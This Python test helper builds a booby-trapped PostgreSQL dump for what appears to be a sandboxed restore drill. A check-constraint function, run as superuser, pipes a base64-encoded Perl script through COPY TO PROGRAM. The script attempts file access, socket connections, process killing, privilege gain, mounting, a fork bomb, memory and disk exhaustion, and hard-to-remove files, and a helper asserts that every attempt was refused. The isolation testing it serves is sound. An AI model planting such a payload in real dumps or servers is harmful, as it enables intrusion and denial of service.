"""A dump whose function, once it is a superuser's, does all that it can to leave the drill that it is loaded in.

What it tries comes out by its effect, and stands in the file ``tries`` beside the data of the throwaway server, where
the program waits afterwards until a file ``go`` is there.
"""

import base64
from dataclasses import dataclass, field

TABLE = "evil_things"
PLANTED = """\
create function evil(n int) returns boolean language plpgsql as $evil$
declare program text = 'base64 -d | perl - ' || current_setting('data_directory');
begin
 if n = 1 and current_database() = 'dental_pms_drill' and current_setting('is_superuser') = 'on' then
  execute format('copy (select %L) to program %L', '{script}', program);
 end if;
 return true;
end $evil$;
create table {table} (n int check (evil(n)));
insert into {table} values (1), (2);
"""
BEGINNING = r"""
use strict; use Socket; use POSIX ();
my $here = $ARGV[0]; $here =~ s{/[^/]*$}{};
open my $log, ">>", "$here/tries" or die; $log->autoflush(1);
sub tell_of { print $log "$_[0]: ", $_[1] ? "DONE" : "refused", "\n" }
sub first { open my $f, "<", $_[0] or return ""; readline($f) // "" }
sub waits { open my $done, ">", "$here/done"; sleep 1 while !-e "$here/go" }
"""
ALL = r"""
for my $path (READ) { tell_of("read $path", opendir(my $d, $path) || first($path) ne "") }
for my $path (WRITE) { tell_of("write $path", open(my $f, ">>", $path)) }
for my $name (UNIX) {
    socket my $s, PF_UNIX, SOCK_STREAM, 0; (my $at = $name) =~ s/^@/\0/;
    tell_of("connect $name", connect $s, pack_sockaddr_un($at));
}
for my $port (TCP) {
    socket my $s, PF_INET, SOCK_STREAM, 0;
    tell_of("connect port", connect $s, pack_sockaddr_in($port, inet_aton("127.0.0.1")));
}
for my $pid (PIDS) {
    tell_of("look into a process", first("/proc/$pid/environ") ne "");
    tell_of("signal a process", kill 9, $pid);
}
opendir my $proc, "/proc";
my @foreign = grep { first("/proc/$_/cmdline") =~ /pytest|dental_pms_backup|systemd\0/ } grep /^\d+$/, readdir $proc;
tell_of("see processes of the host", scalar @foreign);
open my $net, "<", "/proc/net/dev"; my @links = grep /:/, <$net>;
tell_of("see a network", grep !/^\s*lo:/, @links);
$> = 0; tell_of("be root", $> == 0);
tell_of("mount", !system "mount -t tmpfs tmpfs /tmp >/dev/null 2>&1");
tell_of("get a right back by a setuid program", `su --command=id </dev/null 2>/dev/null` =~ /uid=0/);
sub child { my ($does) = @_; my $pid = fork // return 1; if (!$pid) { $does->(); POSIX::_exit(0) } waitpid $pid, 0; $? }
tell_of("write a huge file", !child(sub { open my $f, ">", "$here/huge"; sysseek $f, 3 << 30, 0;
    POSIX::_exit(syswrite($f, "x") ? 0 : 1) }));
MEMORY
my $born = 0;
for (1 .. BOMB) {
    my $pid = fork // last; $born++;
    next if $pid;
    POSIX::setsid(); $SIG{$_} = "IGNORE" for qw(HUP TERM INT PIPE);
    fork and POSIX::_exit(0);
    sleep 600; POSIX::_exit(0);
}
tell_of("leave processes without end", $born >= BOUND);
waits();
"""
# A mapping that takes no memory of the host: mmap(2), private, anonymous, without a page that may be touched.
MEMORY = r"""
my $mmap = { x86_64 => 9, aarch64 => 222 }->{ (POSIX::uname())[4] };
tell_of("take 6 GiB of memory", syscall($mmap, 0, 6 << 30, 0, 0x4022, -1, 0) != -1);
tell_of("be refused 1 GiB of memory", syscall($mmap, 0, 1 << 30, 0, 0x4022, -1, 0) == -1);
"""
FILLS_THE_DISK = r"""
for my $number (1 .. 10000) {
    my $size = $number <= 170 ? 4 << 20 : 1 << 20;  # at last slowly, else it may be full before anybody can look
    open my $f, ">", "$here/filler-$number" or last; my $wrote = syswrite $f, "x" x $size; close $f;
    last if !$wrote || $wrote < $size; select undef, undef, undef, 0.05 if $number > 170;
}
"""
LEAVES_WHAT_IS_HARD_TO_REMOVE = r"""
chdir $here; for (1 .. 3000) { mkdir "d"; chdir "d" }
mkdir "$here/sticky"; chmod 01777, "$here/sticky"; open my $sticks, ">", "$here/sticky/file"; chdir "/";
"""
SWAPS_THE_SOCKET = r"""
unlink "$here/.s.PGSQL.5432"; symlink "UNIX", "$here/.s.PGSQL.5432" or die; tell_of("swap", -l "$here/.s.PGSQL.5432");
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Tries:
    """What is tried: files and directories to read, files to write, sockets (``@`` before an abstract name), processes.

    Of ``bomb`` processes fewer than ``bound`` may come up.
    """

    read: list[str] = field(default_factory=list)
    write: list[str] = field(default_factory=list)
    unix: list[str] = field(default_factory=list)
    tcp: list[int] = field(default_factory=list)
    pids: list[int] = field(default_factory=list)
    bomb: int = 20
    bound: int = 21
    memory: bool = False

    def script(self) -> str:
        """Return the program."""
        lists: dict[str, list[str] | list[int]] = {"READ": self.read, "WRITE": self.write, "UNIX": self.unix}
        lists |= {"TCP": self.tcp, "PIDS": self.pids}
        text = ALL.replace("MEMORY", MEMORY if self.memory else "")
        for name, values in lists.items():
            text = text.replace(f"({name})", f"(qw({' '.join(str(value) for value in values)}))")
        return BEGINNING + text.replace("BOMB", str(self.bomb)).replace("BOUND", str(self.bound))


def planted(script: str) -> str:
    """Return the statements that put a program into a database."""
    return PLANTED.format(script=base64.b64encode(script.encode()).decode(), table=TABLE)


def refused(tries: str) -> list[str]:
    """Return what was tried, all of which has to have been refused."""
    lines = tries.splitlines()
    assert [line for line in lines if not line.endswith(": refused")] == []
    return [line.removesuffix(": refused") for line in lines]
